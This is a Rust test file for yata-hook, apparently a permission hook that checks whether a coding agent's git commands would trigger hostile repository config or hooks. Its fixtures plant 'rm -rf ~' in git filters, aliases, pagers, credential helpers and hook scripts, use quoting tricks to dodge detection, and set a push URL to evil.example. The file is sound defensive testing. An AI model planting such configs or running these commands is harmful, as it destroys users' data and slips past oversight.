//! What a repository makes git run, as an agent's call meets it.
#![cfg(unix)]

use std::fs;
use std::io::Write as _;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

struct Machine {
    folder: tempfile::TempDir,
}

impl Machine {
    fn new() -> Self {
        let machine = Machine { folder: tempfile::tempdir().unwrap() };
        machine.write(".git/HEAD", "ref: refs/heads/main\n");
        machine
    }

    fn home(&self) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join("home/mio")
    }

    fn project(&self) -> PathBuf {
        self.home().join("src/shop")
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.project().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    /// What becomes of a call of a tool: `allow`, `ask` or `deny`.
    fn ask(&self, tool: &str, input: &Value) -> String {
        let call = json!({
            "session_id": "s", "transcript_path": "/t.jsonl", "cwd": self.project(), "permission_mode": "default",
            "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input, "tool_use_id": "toolu_1",
        });
        let mut child = Command::new(env!("CARGO_BIN_EXE_yata-hook"))
            .arg("claude-code")
            .env_clear()
            .env("HOME", self.home())
            .env("YATA_HOOK_DIR", self.folder.path().join("hook"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(call.to_string().as_bytes()).unwrap();
        let output = child.wait_with_output().unwrap();
        match (output.status.code(), output.stdout.is_empty()) {
            (Some(0), true) => "allow".to_owned(),
            (Some(0), false) => {
                let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
                answer["hookSpecificOutput"]["permissionDecision"].as_str().unwrap().to_owned()
            }
            _ => "deny".to_owned(),
        }
    }

    fn bash(&self, command: &str) -> String {
        self.ask("Bash", &json!({ "command": command }))
    }

    fn stopped(&self, commands: &[&str]) {
        for command in commands {
            assert_ne!(self.bash(command), "allow", "{command}");
        }
    }

    fn allowed(&self, commands: &[&str]) {
        for command in commands {
            assert_eq!(self.bash(command), "allow", "{command}");
        }
    }
}

#[test]
fn a_repository_without_a_working_tree_brings_its_own_configuration() {
    let machine = Machine::new();
    for file in ["s.git/HEAD", "s.git/objects/x", "s.git/refs/x"] {
        machine.write(file, "");
    }
    machine.write("s.git/config", "[core]\n\tbare = true\n\tfsmonitor = \"rm -rf ~; false\"\n");
    machine.stopped(&[
        "cd s.git && git status",
        "git -C s.git status",
        "git --git-dir=s.git status",
        "GIT_DIR=s.git git status",
    ]);
    machine.allowed(&["git status", "git -C src status"]);
}

#[test]
fn every_setting_that_git_runs_counts() {
    for (config, command) in [
        ("[filter \"x\"]\n\tclean = rm -rf ~\n", "git add ."),
        ("[filter \"x\"]\n\tsmudge = rm -rf ~\n", "git checkout x"),
        ("[diff \"x\"]\n\ttextconv = rm -rf ~\n", "git diff"),
        ("[pager]\n\tlog = rm -rf ~\n", "git log"),
        ("[credential]\n\thelper = !rm -rf ~\n", "git fetch"),
        ("[credential \"https://a.example\"]\n\thelper = !rm -rf ~\n", "git fetch"),
        ("[gpg]\n\tprogram = /tmp/x\n", "git commit -S -m x"),
        ("[merge \"x\"]\n\tdriver = rm -rf ~\n", "git merge x"),
        ("[include]\n\tpath = ../more\n", "git zap"),
        ("[alias]\n\tnuke = !rm -rf ~\n", "git nuke"),
        ("[alias]\n\tnuke = !rm -rf ~\n", "g=git; $g nuke"),
        ("[alias]\n\tnuke = !rm -rf ~\n", "git \"nu\"ke"),
        ("[alias]\n\tnuke = !rm -rf ~\n", "git nu\\ke"),
        ("[alias]\n\tnuke = !rm -rf ~\n", "n=nuke; git $n"),
        ("[alias]\n\tundo = reset --hard\n", "git undo HEAD~3"),
    ] {
        let machine = Machine::new();
        machine.write("more", "[alias]\n\tzap = !rm -rf ~\n");
        machine.write(".git/config", config);
        assert_ne!(machine.bash(command), "allow", "{command} with {config}");
    }
    let machine = Machine::new();
    machine.write(".git/config", "[alias]\n\tnuke = !rm -rf ~\n");
    assert_ne!(machine.ask("shell", &json!({"command": ["bash", "-lc", "git nuke"]})), "allow");
    assert_ne!(machine.ask("exec_command", &json!({"cmd": "git nuke"})), "allow");
}

#[test]
fn usual_settings_and_hooks_are_quiet() {
    let machine = Machine::new();
    machine.write(
        ".git/config",
        "[core]\n\tbare = false\n\teditor = code --wait\n\tpager = delta\n\tfsmonitor = true\n\tsshCommand = ssh -i ~/.ssh/id_work\n\
         \thooksPath = .husky/_\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\
         \tprocess = git-lfs filter-process\n\trequired = true\n[credential]\n\thelper = store\n\
         [credential \"https://github.com\"]\n\thelper = !/usr/bin/gh auth git-credential\n[diff \"exif\"]\n\ttextconv = exiftool\n\
         [remote \"origin\"]\n\turl = git@github.com:a/b.git\n[merge \"npm\"]\n\tdriver = npx npm-merge-driver merge %A %O %B %P\n\
         [alias]\n\tst = status -sb\n\tlg = log --oneline\n",
    );
    machine.write(".husky/_/pre-commit", "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n");
    machine.write(".husky/_/h", "#!/usr/bin/env sh\n[ \"$HUSKY\" = \"2\" ] && set -x\nsh -e \"$s\" \"$@\"\n");
    machine.allowed(&[
        "git status",
        "git st",
        "git lg -3",
        "git add .",
        "git commit -m x",
        "git diff",
        "git push",
        "git pull",
    ]);
}

#[test]
fn every_hook_that_a_command_runs_counts() {
    for (hook, command) in [
        ("post-index-change", "git status"),
        ("reference-transaction", "git fetch"),
        ("post-commit", "git revert HEAD"),
        ("prepare-commit-msg", "git cherry-pick x"),
        ("pre-commit", "git com'mit' -m x"),
        ("post-checkout", "git switch x"),
    ] {
        let machine = Machine::new();
        machine.write(&format!(".git/hooks/{hook}"), "#!/bin/sh\nrm -rf ~\n");
        assert_ne!(machine.bash(command), "allow", "{hook} {command}");
        assert_eq!(machine.bash("ls"), "allow");
    }
    let machine = Machine::new();
    machine.write(".git/hooks/pre-push", "#!/bin/sh\nrm -rf ~\n");
    machine.write(".git/hooks/post-commit.sample", "#!/bin/sh\nrm -rf ~\n");
    machine.allowed(&["git status", "git commit -m x"]);
}

#[test]
fn a_remote_on_another_machine_than_the_origin_is_asked_about() {
    let machine = Machine::new();
    let remote = |name: &str, url: &str| format!("[remote \"{name}\"]\n\turl = {url}\n");
    let config = [
        remote("origin", "git@github.com:a/b.git"),
        remote("fork", "https://github.com/c/b"),
        remote("e", "https://evil.example/x"),
    ];
    machine.write(".git/config", &config.concat());
    machine.allowed(&["git push", "git push -u fork main", "git push origin main", "git fetch e"]);
    machine.stopped(&["git push -u e main", "git push e"]);
    machine.write(
        ".git/config",
        &format!("{}\tpushurl = https://evil.example/x\n", remote("origin", "git@github.com:a/b.git")),
    );
    machine.stopped(&["git push", "git push origin main"]);
}
